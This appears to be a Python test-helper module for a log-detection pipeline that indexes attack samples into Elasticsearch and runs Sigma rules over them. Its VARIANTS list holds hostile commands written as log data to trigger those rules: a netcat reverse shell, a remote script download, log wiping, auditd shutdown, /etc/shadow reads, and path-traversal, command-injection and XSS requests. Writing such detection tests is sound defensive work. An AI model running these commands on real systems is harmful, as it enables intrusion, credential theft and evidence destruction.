"""Shared by the hunt integration tests: real attack events, normalised and indexed like the pipeline does."""

from __future__ import annotations

import threading
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from elasticsearch import Elasticsearch

from core import clients
from core.index_templates import install_templates
from core.models.ecs import EcsEvent
from core.names import ALERTS_INDEX, LOGS_PATTERN, Topic
from core.settings import Settings
from detectors.alert_store import AlertStore
from detectors.sigma import SigmaEngine
from detectors.stream import StreamWorker
from ingest.collectors.file_import import iter_file_envelopes
from ingest.indexer import bulk_actions, index_batch
from ingest.normaliser import normalise
from tests.datasets import dataset
from tests.integration.events_support import produce_events, start_group_at_end

ATTACK = ("attack", "mdecrevoisier")


def attack_events(prefix: str, *folder: str, shift: timedelta = timedelta(0)) -> list[EcsEvent]:
    """The events of the attack files under `folder`, `source` = prefix + file name, in event-time order
    (as live traffic arrives), optionally shifted in time (shifted events get their own ids)."""
    out: list[EcsEvent] = []
    for path in sorted(dataset(*ATTACK, *folder).rglob("*.jsonl")):
        for envelope in iter_file_envelopes(path, source=f"{prefix}{path.name}", fmt="windows"):
            event = normalise(envelope, ZoneInfo("UTC"))
            assert isinstance(event, EcsEvent), event
            out.append(event)
    out.sort(key=lambda e: e.timestamp)
    if shift:
        out = [e.model_copy(update={"timestamp": e.timestamp + shift}) for e in out]
    return out


def index_events(es: Elasticsearch, settings: Settings, events: Sequence[EcsEvent], index: str | None = None) -> None:
    """Through the indexer's own functions: ECS document, daily index, deterministic id, event.ingested.

    `index` puts them all in one `logs-<category>-<name>` index instead (same template): thousands of
    queries over the 180 daily indices these years of attack samples span would take an hour here."""
    install_templates(es, settings)
    docs = [bulk_actions(Topic.EVENTS.value, e.model_dump_json(by_alias=True, exclude_none=True).encode())
            for e in events]  # fmt: skip
    if index is not None:
        docs = [(index, doc_id, doc) for _, doc_id, doc in docs]
    for i in range(0, len(docs), 2000):
        rejected = index_batch(es, docs[i : i + 2000])
        assert not rejected, rejected[:3]
    es.indices.refresh(index=LOGS_PATTERN)


def sources_scope(events: Iterable[EcsEvent]) -> dict[str, object]:
    """A filter on these events' log sources: tests share one Elasticsearch."""
    return {"terms": {"vigil.source": sorted({e.vigil.source for e in events})}}


def rule_paths() -> list[Path]:
    return [dataset("sigma", d) for d in ("rules", "rules-threat-hunting", "rules-emerging-threats")]


# --- Linux, web server, proxy, DNS, firewall ----------------------------------------------------------

ECS_FILES = [("loghub", "OpenSSH", "OpenSSH_2k.log"), ("loghub", "Linux", "Linux_2k.log"),
             ("loghub", "Apache", "Apache_2k.log"), ("loghub", "Proxifier", "Proxifier_2k.log")]  # fmt: skip
ECS_SAMPLE_DIRS = ("auditd", "authlog", "apache", "nginx", "squid", "dns_bind", "iptables", "syslog", "postfix",
                   "samba_full_audit")  # fmt: skip
SUDO = "Feb 23 00:08:48 localhost sudo: vagrant : TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND={}"
EXECVE = "type=EXECVE msg=audit(1581371984.206:{serial}): argc={argc} {args}"
APACHE = '192.168.1.23 - - [23/Mar/2018:12:31:01 +0000] "GET {path} HTTP/1.1" 200 28 "-" "{agent}"'
# Real lines of the samples with the command / request changed to what SigmaHQ Linux and web rules look
# for: the benign samples alone fire only two of these rules.
VARIANTS = [
    *(SUDO.format(c) for c in ("/usr/bin/chattr -i /etc/passwd", "/usr/bin/base64 -d /tmp/x",
                               "/bin/nc -e /bin/sh 10.0.0.1 4444",
                               "/usr/bin/find / -perm -4000", "/usr/bin/crontab -l", "/usr/bin/wget http://10.0.0.9/x.sh",
                               "/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')", "/usr/sbin/setenforce 0",
                               "/usr/bin/shred -u /var/log/auth.log", "/bin/rm -rf /var/log/syslog",
                               "/usr/bin/xclip -selection clipboard -o", "/usr/sbin/iptables -F")),
    *(EXECVE.format(serial=600000 + i, argc=len(a), args=" ".join(f'a{j}="{x}"' for j, x in enumerate(a)))
      for i, a in enumerate((("chattr", "+i", "/etc/shadow"), ("getcap", "-r", "/"), ("xclip", "-o"),
                             ("base64", "-d"), ("systemctl", "stop", "auditd"), ("cat", "/etc/shadow")))),
    *(APACHE.format(path=p, agent=a) for p, a in (("/../../../../etc/passwd", "curl/7.1"), ("/index.php", "sqlmap/1.4"),
                                                  ("/cgi-bin/;echo;cat /etc/passwd", "Nmap Scripting Engine"),
                                                  ("/?q=<script>alert(1)</script>", "Mozilla/5.0"))),
]  # fmt: skip


def ecs_events(prefix: str, workdir: Path) -> list[EcsEvent]:
    """Every real non-Windows event Vigil parses from loghub and samplelogs, and the variants above
    (written to `workdir`), `source` = prefix + file name."""
    files = [dataset(*f) for f in ECS_FILES]
    files += [p for d in ECS_SAMPLE_DIRS for p in sorted(dataset("samplelogs", d).rglob("*")) if p.is_file()]
    variants = workdir / "variants.log"
    variants.write_text("\n".join(VARIANTS) + "\n", encoding="utf-8")
    events: list[EcsEvent] = []
    for path in [*files, variants]:
        for envelope in iter_file_envelopes(Path(path), source=f"{prefix}{path.name}", fmt="auto", timezone="UTC"):
            event = normalise(envelope, ZoneInfo("UTC"))
            if isinstance(event, EcsEvent) and event.winlog is None:
                events.append(event)
    return events


def recent_attack_events(prefix: str, *folder: str) -> list[EcsEvent]:
    """The attack events of `folder` moved so that the last one happened three minutes ago: live traffic."""
    original = attack_events(prefix, *folder)
    return attack_events(prefix, *folder, shift=datetime.now(UTC) - timedelta(minutes=3) - original[-1].timestamp)


def stream_and_store(settings: Settings, engine: SigmaEngine, events: Sequence[EcsEvent]) -> Elasticsearch:
    """The events through the stream (produced to `vigil.events`, detected by a stream worker), indexed as
    the indexer does (daily indices, event.ingested now), and the stream's alerts stored; the client back."""
    es = Elasticsearch(settings.es_url, request_timeout=120)
    clients.ensure_topics(settings)
    start_group_at_end(settings, settings.detectors_group, Topic.EVENTS.value)
    produce_events(settings, events)
    worker = StreamWorker(settings, engine)
    thread = threading.Thread(target=worker.run, kwargs={"idle_exit_s": 6})
    thread.start()
    thread.join(timeout=300)
    assert not thread.is_alive(), "the stream worker did not finish the test's events in 300 s"
    index_events(es, settings, events)
    AlertStore(settings).run(idle_exit_s=6)
    return es


def stored(es: Elasticsearch, events: list[EcsEvent]) -> dict[str, dict]:
    """The stored alerts (id → document) that name any of these events."""
    es.indices.refresh(index=ALERTS_INDEX)
    query = {"terms": {"event_ids": [e.event.id for e in events]}}
    return {h["_id"]: h["_source"] for h in es.search(index=ALERTS_INDEX, size=1000, query=query)["hits"]["hits"]}
